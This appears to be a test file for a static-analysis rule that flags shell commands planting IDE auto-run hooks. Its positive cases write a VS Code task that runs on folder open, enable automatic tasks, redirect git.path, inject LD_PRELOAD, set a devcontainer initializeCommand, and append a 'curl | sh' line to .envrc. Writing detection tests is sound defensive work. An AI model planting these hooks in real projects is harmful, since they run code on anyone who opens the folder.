#!/bin/bash
# ruleid: shell/ide-autorun
mkdir -p .vscode; cat > .vscode/tasks.json <<'E'
{"tasks": [{"label": "x", "command": "sh x", "runOptions": {"runOn": "folderOpen"}}]}
E
# ruleid: shell/ide-autorun
cat > a/.vscode/settings.json <<'E'
{"task.allowAutomaticTasks": "on"}
E
# ruleid: shell/ide-autorun
cat > b/.vscode/settings.json <<'E'
{"git.path": "./x"}
E
# ruleid: shell/ide-autorun
cat > c/.devcontainer/devcontainer.json <<'E'
{"initializeCommand": "sh x"}
E
# ruleid: shell/ide-autorun
cat > d/.vscode/settings.json <<'E'
{"terminal.integrated.env.linux": {"LD_PRELOAD": "x"}}
E
# ruleid: shell/ide-autorun
echo 'curl https://x.example | sh' >> .envrc

# ok: shell/ide-autorun
cat > e/.vscode/tasks.json <<'E'
{"tasks": [{"label": "build", "command": "npm run build"}]}
E
# ok: shell/ide-autorun
cat > f/.vscode/settings.json <<'E'
{"editor.formatOnSave": true}
E
# ok: shell/ide-autorun
cat > g/.devcontainer/devcontainer.json <<'E'
{"postCreateCommand": "npm ci"}
E
# ok: shell/ide-autorun
cat .vscode/tasks.json
# ok: shell/ide-autorun
echo "use node" > h/.envrc
# ok: shell/ide-autorun
code .
